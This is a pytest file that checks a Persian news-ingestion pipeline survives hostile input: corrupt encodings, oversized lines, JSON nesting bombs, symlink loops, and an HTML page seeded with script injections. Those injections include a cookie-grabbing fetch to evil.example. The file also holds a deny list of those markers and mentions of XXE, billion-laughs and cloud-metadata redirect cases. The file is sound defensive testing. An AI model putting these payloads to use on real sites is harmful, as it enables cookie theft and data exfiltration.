"""Hostile and broken input, one test each: no crash, no hang, nothing unaccounted for.

Each input is ingested by its own child process with its address space capped
(RLIMIT_AS) and a timeout, into its own database; the test then reads what became an
article and what was rejected, and why. The children run a few at a time, started by one
module fixture. Feeds with entity expansion (billion laughs), external entities (XXE) and
redirects to file: or to a private address are fetched from a real HTTP server by
tests/test_fetch.py; the last test here checks those cases are still there.
"""

from __future__ import annotations

import json
import os
import random
import subprocess
import sys
from collections.abc import Callable
from dataclasses import dataclass, field
from pathlib import Path

import pytest

from storage import Database
from tests.conftest import ROOT

MEMORY_LIMIT = 3 << 30  # bytes of address space for one input; ingesting the samples peaks near 0.4 GB
TIMEOUT = 90  # seconds for one input; the slowest here takes about 10 on two cores shared by three
MB = 1 << 20

TITLE = "زلزله ۵.۱ ریشتری کوهبنان کرمان را لرزاند"
TITLE_NORMALIZED = "زلزله ۵٫۱ ریشتری کوهبنان کرمان را لرزاند"
BODY = ("به گزارش ایسنا، زلزله‌ای به بزرگی ۵.۱ ریشتر بامداد چهارشنبه شهرستان کوهبنان در استان کرمان را لرزاند "
        "و به گفته رئیس مرکز مدیریت بحران استان ۲۷ نفر مصدوم شدند. تیم‌های امدادی هلال احمر به منطقه اعزام "
        "شدند و ۱۴۰ واحد مسکونی خسارت دیده است.")
PAGE = f"{TITLE}\n\n{BODY}\n"
# zero-width space/joiner, LRM/RLM, the bidi embeddings and overrides, isolates, BOM,
# Arabic letter mark, soft hyphen
INVISIBLE = "\u200b\u200d\u200e\u200f\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069\ufeff\u061c\u00ad"

# One child process loads the ingestion code once, then forks a grandchild per input:
# address space capped, killed after TIMEOUT seconds, two at a time. It prints one JSON
# line per input: its name, its exit status ("timeout" when killed), its seconds.
WORKER = """
import json, os, resource, sys, time, traceback
from flows.settings import load_settings
from flows.stages import ingest_paths
from ingest.normalize import lemmas, normalize_line
from storage import Database

lemmas(normalize_line("نیروهای امدادی اعزام شدند"))  # hazm's models, loaded before forking
limit, timeout, parallel = int(sys.argv[1]), float(sys.argv[2]), int(sys.argv[3])
jobs = [json.loads(line) for line in sys.stdin if line.strip()]
running = {}

def start(job):
    pid = os.fork()
    if pid == 0:
        code = 1
        try:
            resource.setrlimit(resource.RLIMIT_AS, (limit, limit))
            settings = load_settings(overrides={"db": job["db"]})
            counts = ingest_paths(Database(job["db"]), job["files"], settings, "hostile")
            with open(job["counts"], "w") as fh:
                json.dump(counts.as_dict(), fh)
            code = 0
        except BaseException:
            sys.stderr.write(f"--- {job['name']}\\n" + traceback.format_exc())
        finally:
            sys.stderr.flush()
            os._exit(code)
    running[pid] = (job, time.monotonic())

while jobs or running:
    while jobs and len(running) < parallel:
        start(jobs.pop(0))
    pid, status = os.waitpid(-1, os.WNOHANG)
    if pid:
        job, began = running.pop(pid)
        print(json.dumps({"name": job["name"], "status": os.waitstatus_to_exitcode(status),
                          "seconds": time.monotonic() - began}), flush=True)
        continue
    for pid, (job, began) in list(running.items()):
        if time.monotonic() - began > timeout:
            os.kill(pid, 9)
            os.waitpid(pid, 0)
            running.pop(pid)
            print(json.dumps({"name": job["name"], "status": "timeout", "seconds": timeout}), flush=True)
    time.sleep(0.02)
"""


@dataclass
class Outcome:
    """What one input's ingestion did, and what its database holds afterwards."""

    files: list[Path]
    seconds: float
    counts: dict = field(default_factory=dict)
    error: str | None = None  # a crash, a hang or a traceback, described
    articles: list[dict] = field(default_factory=list)
    sentences: list[str] = field(default_factory=list)
    rejects: list[dict] = field(default_factory=list)

    def reasons(self) -> list[str]:
        return sorted(r["reason"] for r in self.rejects)

    def text(self) -> str:
        """Everything normalized that was stored: titles, leads, bodies, sentences."""
        return "\n".join([f"{a['title']}\n{a['lead'] or ''}\n{a['body']}" for a in self.articles] + self.sentences)

    def only_article(self) -> dict:
        assert self.rejects == [] and len(self.articles) == 1, (self.articles, self.rejects)
        return self.articles[0]


def read_back(out: Outcome, db: Path) -> Outcome:
    with Database(str(db)).connect(read_only=True) as con:
        cols = ["article_id", "title", "lead", "body", "input_ref", "published_at"]
        out.articles = [dict(zip(cols, r, strict=True)) for r in con.execute(
            f"SELECT {', '.join(cols)} FROM articles ORDER BY input_ref").fetchall()]
        out.sentences = [r[0] for r in con.execute(
            "SELECT text FROM sentences ORDER BY article_id, position").fetchall()]
        out.rejects = [{"input_ref": r[0], "reason": r[1], "detail": r[2]} for r in con.execute(
            "SELECT input_ref, reason, detail FROM rejects ORDER BY input_ref").fetchall()]
    return out


def ingest_all(jobs: dict[str, tuple[Path, list[Path]]], parallel: int = 2) -> dict[str, Outcome]:
    """Ingest each job's files (name -> (work dir, files)) in its own capped process."""
    lines = "".join(json.dumps({"name": name, "db": str(d / "hostile.duckdb"), "counts": str(d / "counts.json"),
                                "files": [str(f) for f in files]}) + "\n" for name, (d, files) in jobs.items())
    env = {k: v for k, v in os.environ.items() if not k.startswith("DASTAN_")}
    proc = subprocess.run([sys.executable, "-c", WORKER, str(MEMORY_LIMIT), str(TIMEOUT), str(parallel)],
                          input=lines, cwd=ROOT, env=env, capture_output=True, text=True,
                          timeout=TIMEOUT * len(jobs) / parallel + 60)
    assert proc.returncode == 0, proc.stderr[-3000:]
    results = {}
    for line in proc.stdout.splitlines():
        r = json.loads(line)
        d, files = jobs[r["name"]]
        out = Outcome(files, r["seconds"])
        if r["status"] != 0:
            out.error = f"exit {r['status']}: {proc.stderr[-3000:]}"
        else:
            out.counts = json.loads((d / "counts.json").read_text())
            read_back(out, d / "hostile.duckdb")
        results[r["name"]] = out
    return results


# --- the inputs: each builds its files in an empty directory and returns them -----------

CASES: dict[str, Callable[[Path], list[Path]]] = {}


def case(fn: Callable[[Path], list[Path]]) -> Callable[[Path], list[Path]]:
    CASES[fn.__name__] = fn
    return fn


def jsonl_row(i: object, **extra: str) -> str:
    return json.dumps({"id": f"r{i}", "source": "isna", "title": f"{TITLE} {i}", "body": f"{BODY} {i}", **extra},
                      ensure_ascii=False)


@case
def random_bytes(d: Path) -> list[Path]:
    rng = random.Random(8)
    (d / "noise.txt").write_bytes(rng.randbytes(MB))
    (d / "noise.jsonl").write_bytes(rng.randbytes(MB).replace(b"\0", b"\1"))  # no NUL: every line is tried
    return [d / "noise.txt", d / "noise.jsonl"]


@case
def truncated_utf8(d: Path) -> list[Path]:
    data = PAGE.encode()
    cut = data[: data.rindex("احمر".encode()) + 1]  # the first byte of «ا», not its second
    assert cut.decode("utf-8", "replace").endswith("هلال \ufffd")
    (d / "cut.txt").write_bytes(cut)
    return [d / "cut.txt"]


@case
def damaged_utf8(d: Path) -> list[Path]:
    data = PAGE.encode()
    (d / "damaged.txt").write_bytes(data[:40] + b"\xff" + data[40:])
    return [d / "damaged.txt"]


@case
def jsonl_cut_in_last_record(d: Path) -> list[Path]:
    data = "\n".join(jsonl_row(i) for i in range(3)).encode()
    (d / "cut.jsonl").write_bytes(data[:-30])
    return [d / "cut.jsonl"]


@case
def windows_1256(d: Path) -> list[Path]:
    # Windows-1256 has Arabic yeh and kaf, not the Persian ones, and no Persian digits
    text = (PAGE.replace("ی", "ي").replace("ک", "ك").replace("۵.۱", "5.1").replace("۲۷", "27")
            .replace("۱۴۰", "140"))
    (d / "cp1256.txt").write_bytes(text.encode("cp1256"))
    return [d / "cp1256.txt"]


@case
def utf16_bom_txt(d: Path) -> list[Path]:
    (d / "utf16.txt").write_bytes(PAGE.encode("utf-16"))  # Python writes the BOM
    return [d / "utf16.txt"]


@case
def utf16_bom_jsonl(d: Path) -> list[Path]:
    (d / "utf16.jsonl").write_bytes((jsonl_row("u16") + "\n").encode("utf-16"))
    return [d / "utf16.jsonl"]


MIXED = "نماینده IAEA گفت «مرحبا بكم» و Привет و 你好 و שלום 🌍 و e=mc²"


@case
def mixed_scripts(d: Path) -> list[Path]:
    (d / "mixed.txt").write_text(f"{TITLE}\n\n{BODY} {MIXED}\n", encoding="utf-8")
    (d / "foreign.txt").write_text("Earthquake in Kerman\n\nA magnitude 5.1 quake struck Kouhbanan. Привет 你好.\n",
                                   encoding="utf-8")
    return [d / "mixed.txt", d / "foreign.txt"]


@case
def invisible_controls(d: Path) -> list[Path]:
    noisy = "".join(ch + INVISIBLE[i % len(INVISIBLE)] for i, ch in enumerate(TITLE))
    (d / "controls.txt").write_text(f"\u202e{noisy}\u202c\n\n\u2067{BODY}\u2069\u200f\n", encoding="utf-8")
    return [d / "controls.txt"]


def _huge_line(size: int) -> str:
    unit = BODY + " "
    return unit * (size // len(unit.encode()) + 1)


@case
def single_line_50mb_txt(d: Path) -> list[Path]:
    (d / "huge.txt").write_text(TITLE + "\n" + _huge_line(50 * MB), encoding="utf-8")
    return [d / "huge.txt"]


@case
def single_line_50mb_jsonl(d: Path) -> list[Path]:
    huge = json.dumps({"id": "huge", "title": TITLE, "body": _huge_line(50 * MB)}, ensure_ascii=False)
    (d / "huge.jsonl").write_text(f"{jsonl_row(1)}\n{huge}\n{jsonl_row(2)}\n", encoding="utf-8")
    return [d / "huge.jsonl"]


@case
def page_just_under_file_limit_txt(d: Path) -> list[Path]:
    (d / "almost.txt").write_text(TITLE + "\n" + _huge_line(17 * MB), encoding="utf-8")
    return [d / "almost.txt"]


@case
def page_just_under_file_limit_html(d: Path) -> list[Path]:
    para = "<p>" + BODY * 5 + "</p>\n"
    html = (f"<html><head><title>{TITLE}</title></head><body><article><h1>{TITLE}</h1>"
            + para * (18 * MB // len(para.encode())) + "</article></body></html>")
    (d / "almost.html").write_text(html, encoding="utf-8")
    return [d / "almost.html"]


@case
def jsonl_one_broken_line(d: Path) -> list[Path]:
    rows = [jsonl_row(i) for i in range(4)]
    rows.insert(2, '{"id": "broken", "title": "' + TITLE + '", "body": ')
    (d / "one-broken.jsonl").write_text("\n".join(rows) + "\n", encoding="utf-8")
    return [d / "one-broken.jsonl"]


def _bomb() -> str:
    # one million brackets and 200,000 nested objects: past any recursion limit, under the
    # 2 MB record limit, so the JSON parser itself meets them
    return "[" * 500_000 + "]" * 500_000 + "\n" + '{"a":' * 200_000 + "1" + "}" * 200_000 + "\n"


@case
def json_bomb_json(d: Path) -> list[Path]:
    (d / "bomb.json").write_text(_bomb(), encoding="utf-8")
    return [d / "bomb.json"]


@case
def json_bomb_jsonl(d: Path) -> list[Path]:
    (d / "bomb.jsonl").write_text(_bomb(), encoding="utf-8")
    return [d / "bomb.jsonl"]


HOSTILE_HTML = f"""<!DOCTYPE html><html lang="fa" dir="rtl"><head><meta charset="utf-8">
<title>{TITLE}</title><meta property="og:title" content="{TITLE}">
<meta property="article:published_time" content="2025-11-19T02:50:00+03:30">
<script>window.PWNED_HEAD = document.cookie</script><style>body {{ background: url(javascript:PWNED_CSS) }}</style>
</head><body onload="PWNED_ONLOAD()"><nav><a href="/">صفحه اصلی</a></nav>
<article><h1>{TITLE}</h1>
<p onclick="PWNED_CLICK()">{BODY}</p>
<script type="text/javascript">fetch('https://evil.example/?c=' + PWNED_BODY)</script>
<iframe src="javascript:PWNED_IFRAME()" srcdoc="&lt;script&gt;PWNED_SRCDOC()&lt;/script&gt;"></iframe>
<img src=x onerror="PWNED_IMG()"><svg onload="PWNED_SVG()"><script>PWNED_SVG_SCRIPT()</script></svg>
<noscript><p>PWNED_NOSCRIPT</p></noscript>
<p>نیروهای امدادی به منطقه اعزام شدند و چادر و پتو میان آسیب‌دیدگان توزیع کردند.</p>
<a href="javascript:PWNED_LINK()">بیشتر بخوانید</a>
</article></body></html>"""


@case
def html_with_scripts(d: Path) -> list[Path]:
    (d / "page.html").write_text(HOSTILE_HTML, encoding="utf-8")
    return [d / "page.html"]


@case
def empty_binary_unsupported_missing(d: Path) -> list[Path]:
    (d / "in").mkdir()
    (d / "in" / "empty.txt").write_bytes(b"")
    (d / "in" / "blank.jsonl").write_bytes(b"\n \n\t\n")
    (d / "in" / "nul.txt").write_bytes(b"\x7fELF\0\0\0" + random.Random(3).randbytes(100))
    (d / "in" / "report.pdf").write_bytes(b"%PDF-1.4")
    (d / "in" / "loop").symlink_to(d / "in")  # a directory that contains itself
    return [d / "in", d / "missing.jsonl"]


@pytest.fixture(scope="module")
def outcomes(tmp_path_factory) -> dict[str, Outcome]:
    """Every case, each in its own capped process."""
    jobs = {}
    for name, build in CASES.items():
        d = tmp_path_factory.mktemp(name)
        jobs[name] = (d, build(d))
    results = ingest_all(jobs)
    for name, out in results.items():
        print(f"{name}: {out.seconds:.1f} s, {out.counts}")
    return results


def outcome(outcomes: dict[str, Outcome], name: str) -> Outcome:
    """The case's outcome, once it is known that it ended well and accounted for each item."""
    out = outcomes[name]
    assert out.error is None, out.error
    c = out.counts
    # each item read is an article (new, or one known before) or a reject with a reason
    assert c["read"] == c["ingested"] + c["existing"] + c["rejected_total"], c
    assert len(out.rejects) == c["rejected_total"] and all(r["detail"] for r in out.rejects)
    return out


# --- one test per input -------------------------------------------------------------------


def test_random_bytes_are_rejected(outcomes) -> None:
    out = outcome(outcomes, "random_bytes")
    assert out.articles == []
    assert set(out.reasons()) <= {"binary", "undecodable", "malformed", "too_large"}
    assert {Path(r["input_ref"].split(":")[0]).name for r in out.rejects} == {"noise.txt", "noise.jsonl"}


def test_truncated_utf8_keeps_the_text_before_the_cut_and_stores_no_mojibake(outcomes) -> None:
    out = outcome(outcomes, "truncated_utf8")
    art = out.only_article()
    assert art["title"] == TITLE_NORMALIZED
    assert art["body"].endswith("تیم‌های امدادی هلال")
    # read as Windows-1256, UTF-8 Persian turns into «ط²ظ„ط²ظ„ظ‡»
    assert "ط²" not in out.text() and "ظ„" not in out.text()


def test_utf8_with_a_damaged_byte_is_rejected_not_read_as_windows_1256(outcomes) -> None:
    out = outcome(outcomes, "damaged_utf8")
    assert out.articles == [] and out.reasons() == ["undecodable"]
    assert "damaged UTF-8" in out.rejects[0]["detail"]


def test_jsonl_cut_in_its_last_record_keeps_the_whole_records(outcomes) -> None:
    out = outcome(outcomes, "jsonl_cut_in_last_record")
    assert len(out.articles) == 2 and out.reasons() == ["malformed"]
    assert out.rejects[0]["input_ref"].endswith("cut.jsonl:3")


def test_windows_1256_is_decoded(outcomes) -> None:
    art = outcome(outcomes, "windows_1256").only_article()
    assert art["title"] == TITLE_NORMALIZED
    assert "تیم‌های امدادی" in art["body"]  # Windows-1256 has ZWNJ (0x9D)
    assert "ي" not in art["body"] and "ك" not in art["body"]  # its Arabic yeh and kaf became Persian


@pytest.mark.parametrize("name", ["utf16_bom_txt", "utf16_bom_jsonl"])
def test_utf16_with_bom_is_decoded(outcomes, name: str) -> None:
    art = outcome(outcomes, name).only_article()
    assert art["title"].startswith(TITLE_NORMALIZED) and "تیم‌های امدادی" in art["body"]


def test_mixed_scripts_are_kept_and_foreign_text_is_rejected(outcomes) -> None:
    out = outcome(outcomes, "mixed_scripts")
    (art,) = out.articles
    for word in ("IAEA", "Привет", "你好", "שלום", "🌍", "mc²", "بکم"):
        assert word in art["body"], word
    assert [(Path(r["input_ref"]).name, r["reason"]) for r in out.rejects] == [("foreign.txt", "not_persian")]


def test_zero_width_and_bidi_controls_are_removed_and_zwnj_kept(outcomes) -> None:
    out = outcome(outcomes, "invisible_controls")
    art = out.only_article()
    assert art["title"] == TITLE_NORMALIZED
    assert not set(out.text()) & set(INVISIBLE)
    assert "زلزله\u200cای" in art["body"]  # ZWNJ is Persian spelling, not noise


def test_a_50_mb_single_line_txt_is_refused_in_bounded_time_and_memory(outcomes) -> None:
    out = outcome(outcomes, "single_line_50mb_txt")
    assert out.articles == [] and out.reasons() == ["too_large"]


def test_a_50_mb_single_line_in_jsonl_is_refused_and_its_neighbours_read(outcomes) -> None:
    out = outcome(outcomes, "single_line_50mb_jsonl")
    assert out.reasons() == ["too_large"] and out.rejects[0]["input_ref"].endswith("huge.jsonl:2")
    assert len(out.articles) == 2


def test_a_text_page_just_under_the_file_limit_is_refused(outcomes) -> None:
    # 18 MB of text on one line passes the 20 MB file limit; it took 90 s and more than
    # 3 GB (a crash under the cap) until a saved page was bounded like one record
    out = outcome(outcomes, "page_just_under_file_limit_txt")
    assert out.articles == [] and out.reasons() == ["too_large"]


def test_an_html_page_just_under_the_file_limit_is_read_in_bounds(outcomes) -> None:
    out = outcome(outcomes, "page_just_under_file_limit_html")  # in TIMEOUT and MEMORY_LIMIT
    assert out.only_article()["title"] == TITLE_NORMALIZED


def test_jsonl_with_one_broken_line_ingests_the_others(outcomes) -> None:
    out = outcome(outcomes, "jsonl_one_broken_line")
    assert len(out.articles) == 4
    assert [(r["input_ref"].rsplit("/", 1)[1], r["reason"]) for r in out.rejects] == [("one-broken.jsonl:3",
                                                                                     "malformed")]


@pytest.mark.parametrize(("name", "rejects"), [("json_bomb_json", 1), ("json_bomb_jsonl", 2)])
def test_a_json_bomb_of_deep_nesting_is_rejected(outcomes, name: str, rejects: int) -> None:
    out = outcome(outcomes, name)
    assert out.articles == [] and out.reasons() == ["malformed"] * rejects


def test_html_scripts_iframes_and_event_handlers_leave_no_trace_in_the_stored_text(outcomes) -> None:
    out = outcome(outcomes, "html_with_scripts")
    art = out.only_article()
    assert art["title"] == TITLE_NORMALIZED and "چادر و پتو" in out.text()
    for bad in ("PWNED", "javascript", "document.cookie", "onerror", "onclick", "<script", "evil.example"):
        assert bad not in out.text(), bad


def test_html_keeps_zwnj_as_text_files_do(outcomes) -> None:
    out = outcome(outcomes, "html_with_scripts")
    assert "زلزله\u200cای" in out.only_article()["body"]


def test_empty_binary_unsupported_files_and_missing_paths_are_rejected_with_reasons(outcomes) -> None:
    out = outcome(outcomes, "empty_binary_unsupported_missing")
    assert out.articles == []
    assert {(Path(r["input_ref"]).name, r["reason"]) for r in out.rejects} == {
        ("empty.txt", "empty"), ("blank.jsonl", "empty"), ("nul.txt", "binary"), ("missing.jsonl", "no_text")}
    # not a news format: the folder's walk passes it over, with its reason, and reads nothing of it
    assert [(Path(p["path"]).name, p["reason"]) for p in out.counts["passed_over"]] == [("report.pdf", "format")]


def test_every_input_finished_well_inside_its_bounds(outcomes) -> None:
    assert set(outcomes) == set(CASES)
    slow = {name: round(o.seconds) for name, o in outcomes.items() if o.seconds > TIMEOUT / 2}
    assert not slow, f"close to the {TIMEOUT} s bound: {slow}"


def test_hostile_feeds_are_covered_by_the_fetch_tests() -> None:
    """Billion laughs, XXE, redirects to file: and to 169.254.169.254: tests/test_fetch.py
    fetches each from a real server and expects a failed feed with a reason."""
    source = (ROOT / "tests" / "test_fetch.py").read_text(encoding="utf-8")
    for case_ in ('"/bomb/rss.xml", "unsafe XML"', '"/xxe/rss.xml", "unsafe XML"',
                  '"/evil/scheme.xml", "redirect to a file: URL refused"',
                  '"/evil/private.xml", "redirect to a private or local address refused'):
        assert case_ in source, case_
